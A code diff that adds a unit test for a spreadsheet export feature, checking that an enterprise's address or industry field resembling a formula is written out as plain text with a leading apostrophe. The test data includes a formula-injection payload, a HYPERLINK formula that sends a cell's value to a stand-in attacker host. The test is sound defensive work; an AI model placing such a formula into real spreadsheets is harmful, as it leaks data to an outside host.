@@ -40,4 +40,15 @@ describe('enterprise.export', () => {
     expect(names.length).toBe(found.rows);
     expect(names.every((n) => String(n).includes('联影'))).toBe(true);
   });
+
+  it('writes an address or industry that looks like a formula as text', async () => {
+    const address = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';
+    await t.cloud.run(() => t.cloud.database().collection('enterprises').doc('ent-001').update({ data: { address, industry: '＋集成电路' } }));
+    const exported = dataOf(await t.as(DEMO.district).call<{ fileID: string; rows: number }>('enterprise.export', {}));
+    const sheet = await workbookOf(exported.fileID);
+    const ent001 = (await t.read('enterprises', { _id: 'ent-001' }))[0];
+    const row = sheet.getRows(2, sheet.rowCount - 1)!.find((r) => r.getCell(2).value === ent001.creditCode)!;
+    expect(row.getCell(6).value).toBe(`'${address}`);
+    expect(row.getCell(5).value).toBe("'＋集成电路");
+  });
 });
